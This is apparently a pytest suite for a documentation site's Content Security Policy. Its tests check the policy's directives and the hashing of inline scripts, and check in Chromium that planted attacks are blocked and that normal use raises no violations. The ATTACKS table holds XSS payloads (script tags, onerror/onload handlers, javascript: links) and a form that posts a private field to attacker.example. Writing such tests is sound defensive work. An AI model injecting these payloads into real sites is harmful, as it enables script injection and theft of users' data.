"""The Content Security Policy (issue 9.4; hooks/hub_csp.py): on every page of both builds, before
any script; it allows the theme's own inline scripts by hash and nothing else inline; in Chromium,
script planted in a page (in its text or in a dataset's markup) does not run, nothing reaches
another host, and ordinary use of the site (search, colour toggle, forms, print, handouts, the
404 page, the offline bundle from file://) raises no `securitypolicyviolation` event.

Planted script: the build refuses it (tests/test_links_safety.py), so to prove the browser refuses
it too, these tests write it into a copy of the built site, after the build, as an attacker who
got past the check would."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from conftest import RequestLog, serve
from crawl import built_pages
from hub_csp import add_policy, executed_inline_scripts, policy, sha256_source, shim_script, worker_url
from test_browser_foundation import search

# Collects every policy violation in the page, from the first script on (an init script runs
# before the page's own), including those in frames the page makes.
LISTEN = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  const top = window.top === window ? window : window.top;
  (top.__violations || window.__violations).push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
}, true);
"""
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def directives(text: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in text.split(";") if part.strip()}


# -- the policy itself ------------------------------------------------------------------------

def test_the_policy_allows_no_inline_script_and_no_other_host():
    rules = directives(policy(["'sha256-abc='"]))
    assert rules["script-src"] == ["'self'", "'sha256-abc='"]
    assert rules["default-src"] == rules["connect-src"] == rules["worker-src"] == ["'self'"]
    assert rules["object-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert rules["img-src"] == ["'self'", "data:"] and rules["style-src"] == ["'self'", "'unsafe-inline'"]
    for name, sources in rules.items():
        for source in sources:  # nothing names a host or a scheme that reaches one
            assert source in ("'self'", "'none'", "data:", "'unsafe-inline'") or source.startswith("'sha256-"), (name, source)
        if name != "style-src":
            assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources


@pytest.mark.parametrize("script, runs", [
    ("<script>a()</script>", True),
    ("<script type=\"module\">a()</script>", True),
    ("<SCRIPT TYPE='text/JavaScript'>a()</SCRIPT>", True),
    ("<script type=\" application/javascript \">a()</script>", True),
    ("<script id=\"__config\" type=\"application/json\">{}</script>", False),
    ("<script type=\"application/ld+json\">{}</script>", False),
    ("<script src=\"x.js\"></script>", False),
    ("<script defer src=x.js></script>", False),
])
def test_only_scripts_a_browser_runs_are_hashed(script, runs):
    assert executed_inline_scripts(f"<head>{script}</head>") == (["a()"] if runs else [])


@pytest.mark.parametrize("before", ["", "<p>İstanbul</p>", "ß" * 3, "<scripts>", "<script src=x></script>"])
def test_every_inline_script_is_found_whatever_comes_before_it(before: str):
    """Scripts are found with str.find on the lower-cased page, or by the regex when lower-casing
    changes the page's length ('İ' lower-cases to two characters)."""
    page = f"{before}<SCRIPT>one()</SCRIPT >{before}<script type='module'>two()</script><Script\n>three()</sCript>"
    assert executed_inline_scripts(page) == ["one()", "two()", "three()"]


def test_the_policy_comes_first_and_leaves_the_pages_own_scripts_out():
    content = "<p>text</p><script>planted()</script>"
    page = (f'<html><head><meta charset="utf-8"><script>theme()</script></head>'
            f"<body><article>{content}</article></body></html>")
    result = add_policy(page, content)
    rules = directives(META.search(result).group(1))
    assert result.index("Content-Security-Policy") < result.index("<script")
    assert result.index('<meta charset="utf-8">') < result.index("Content-Security-Policy")
    assert sha256_source("theme()") in rules["script-src"]
    assert sha256_source("planted()") not in rules["script-src"]


def test_a_known_hash():  # `echo -n "alert(1)" | openssl dgst -sha256 -binary | base64`
    assert sha256_source("alert(1)") == "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"


def test_the_shim_script_is_rebuilt_from_the_shim(offline_site):
    shim = (offline_site / "assets/javascripts/iframe-worker-shim.js").read_text(encoding="utf-8")
    script = shim_script(shim, "../assets/javascripts/workers/search.js")
    assert script.startswith("postMessage=function ") and ";importScripts=function " in script
    assert 'filename:"../assets/javascripts/workers/search.js"' in script and "${" not in script
    with pytest.raises(ValueError):
        shim_script("a different shim", "x.js")


# -- every built page -------------------------------------------------------------------------

@pytest.mark.parametrize("build", ["site", "offline_site"])
def test_every_page_carries_the_policy_before_any_script(request, build):
    site = request.getfixturevalue(build)
    pages = built_pages(site)
    assert len(pages) > 50
    for path in pages:
        html = (site / path).read_text(encoding="utf-8")
        metas = META.findall(html)
        assert len(metas) == 1, f"{path}: {len(metas)} policies"
        assert html.index("Content-Security-Policy") < html.index("<script") < html.index("</head>"), path
        allowed = directives(metas[0])["script-src"]
        article = re.search(r"<article\b.*</article>", html, re.S)
        theme = html.replace(article.group(0), "") if article else html
        for script in executed_inline_scripts(theme):
            assert sha256_source(script) in allowed, f"{path}: inline script not allowed: {script[:60]}"
        if build == "offline_site" and worker_url(html):
            assert len(allowed) == len(set(executed_inline_scripts(theme))) + 2, f"{path}: the shim's script"


# -- in Chromium: planted script does not run -------------------------------------------------

ATTACKS = {
    "script element": "<script>window.__pwned = 'script element'</script>",
    "image error handler": '<img src="does-not-exist.png" alt="" onerror="window.__pwned = \'onerror\'">',
    "svg load handler": "<svg onload=\"window.__pwned = 'svg onload'\"></svg>",
    "framed script": "<iframe srcdoc=\"<script>parent.__pwned = 'srcdoc'</script>\"></iframe>",
    "script from another host": '<script src="https://attacker.example/x.js"></script>',
    "image from another host": '<img src="https://attacker.example/pixel.png" alt="">',
    "form to another host": ('<form action="https://attacker.example/collect"><input name="answer" value="private">'
                             '<button id="attack-submit">Send</button></form>'),
    "link running script": '<a id="attack-link" href="javascript:window.__pwned = \'javascript link\'">guide</a>',
}
# The dataset's own markup: a link as a data field's Markdown would make it (the check refuses it).
DATA_ATTACK = '<a id="data-attack" href="JaVaScRiPt:window.__pwned = \'data link\'">read the guide</a>'


def planted_copy(source: Path, dest: Path, page: str) -> Path:
    """A copy of a built site with every attack written into `page`'s article and a data link in
    its first dataset."""
    shutil.copytree(source, dest)
    target = dest / page
    html = target.read_text(encoding="utf-8")
    html = html.replace("</article>", "\n".join(ATTACKS.values()) + "</article>", 1)
    html = re.sub(r'(<[^>]*data-hub-dataset="[^"]*"[^>]*>)', r"\1" + DATA_ATTACK.replace("\\", "\\\\"), html, count=1)
    assert DATA_ATTACK in html and ATTACKS["script element"] in html
    target.write_text(html, encoding="utf-8")
    return dest


def assert_attacks_blocked(page, url: str, allowed_origin: str | None):
    log = RequestLog(page, allowed_origin)
    failed: dict[str, str] = {}
    page.on("requestfailed", lambda request: failed.__setitem__(request.url, request.failure))
    page.add_init_script(LISTEN)
    page.goto(url)
    page.wait_for_load_state("networkidle")
    for link in ("#attack-link", "#data-attack", "#attack-submit"):
        page.locator(link).click(no_wait_after=True)
        page.wait_for_timeout(200)
    assert page.url.split("#")[0] == url, "a planted link or form navigated away"
    assert page.evaluate("window.__pwned") is None
    violated = " ".join(page.evaluate("window.__violations"))
    for directive in ("script-src-elem", "script-src-attr", "img-src", "form-action"):
        assert directive in violated, f"no {directive} violation: {violated}"
    # Chromium reports the requests it refused to make (failure "csp"); none was sent.
    assert {url: failed.get(url) for url in log.outside()} == {
        "https://attacker.example/x.js": "csp",
        "https://attacker.example/pixel.png": "csp"}


PAGE = "about-peer-support/values/index.html"  # a page with a dataset


def test_planted_script_does_not_run_served(site, browser, tmp_path):
    copy = planted_copy(site, tmp_path / "site", PAGE)
    server, url = serve(copy)
    context = browser.new_context()
    try:
        assert_attacks_blocked(context.new_page(), url + PAGE.removesuffix("index.html"), url)
    finally:
        context.close()
        server.shutdown()


def test_planted_script_does_not_run_offline(offline_site, browser, tmp_path):
    page_path = PAGE.replace("/index.html", ".html")
    copy = planted_copy(offline_site, tmp_path / "offline", page_path)
    context = browser.new_context()
    try:
        assert_attacks_blocked(context.new_page(), (copy / page_path).as_uri(), None)
    finally:
        context.close()


# -- in Chromium: ordinary use raises no violation --------------------------------------------

class Watched:
    """A page that records policy violations and script errors."""

    def __init__(self, context):
        context.add_init_script(LISTEN)
        self.page = context.new_page()
        self.errors: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    def open(self, url: str):
        self.page.goto(url)
        self.page.wait_for_load_state("networkidle")
        return self.page

    def assert_quiet(self):
        assert self.page.evaluate("window.__violations") == []
        assert self.errors == []


def use_the_site(watched: Watched, base: str, address):
    """Search, the colour toggle, every kind of form (typed, ticked, Enter pressed, printed,
    downloaded, cleared), a handout and the 404 page."""
    page = watched.open(base + address("index.md"))
    page.locator("[data-md-component='palette'] label:visible").first.click()
    search(page, "peer")
    watched.assert_quiet()
    with page.expect_navigation():
        page.keyboard.press("Enter")  # Material opens the first result
    page.wait_for_load_state("networkidle")
    watched.assert_quiet()
    for form_page in ("reflection/peer-supporters.md", "checklists/managing-setbacks.md", "safest/planner.md",
                      "recruitment/self-check.md"):
        page = watched.open(base + address(form_page))
        form = page.locator("form.hub-record").first
        text = form.locator("textarea").first
        text.fill("An answer")
        text.press("Enter")
        boxes = form.locator("input[type=checkbox], input[type=radio]")
        if boxes.count():
            boxes.first.check()
            boxes.first.press("Enter")  # implicit submission must not be attempted (form-action 'none')
        page.emulate_media(media="print")
        page.emulate_media(media="screen")
        with page.expect_download():
            form.locator("[data-hub-action=download], [data-hub-action=report-html]").last.click()  # the bar at the end
        page.once("dialog", lambda dialog: dialog.accept())
        form.locator("[data-hub-action=clear]").first.click()
        watched.assert_quiet()
    page = watched.open(base + address("handouts/induction-six-day.md"))
    page.emulate_media(media="print")
    watched.assert_quiet()
    watched.open(base + "404.html")
    watched.assert_quiet()


def served_address(src: str) -> str:
    return "" if src == "index.md" else src.removesuffix(".md") + "/"


def offline_address(src: str) -> str:
    return src.removesuffix(".md") + ".html"


def test_ordinary_use_raises_no_violation_served(browser, base_url):
    context = browser.new_context(accept_downloads=True)
    try:
        use_the_site(Watched(context), base_url, served_address)
    finally:
        context.close()


def test_ordinary_use_raises_no_violation_offline(browser, offline_site):
    context = browser.new_context(accept_downloads=True)
    try:
        use_the_site(Watched(context), offline_site.as_uri() + "/", offline_address)
    finally:
        context.close()


def test_ordinary_use_raises_no_violation_on_a_phone(browser, base_url):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    try:
        watched = Watched(context)
        page = watched.open(base_url)
        page.locator("label.md-header__button[for='__drawer']").click()
        page.locator("label.md-overlay").click(position={"x": 370, "y": 400})
        page.locator("label.md-header__button[for='__search']").click()
        page.locator("input.md-search__input").press_sequentially("peer", delay=30)
        page.locator(".md-search-result__item").first.wait_for(timeout=15_000)
        watched.assert_quiet()
    finally:
        context.close()
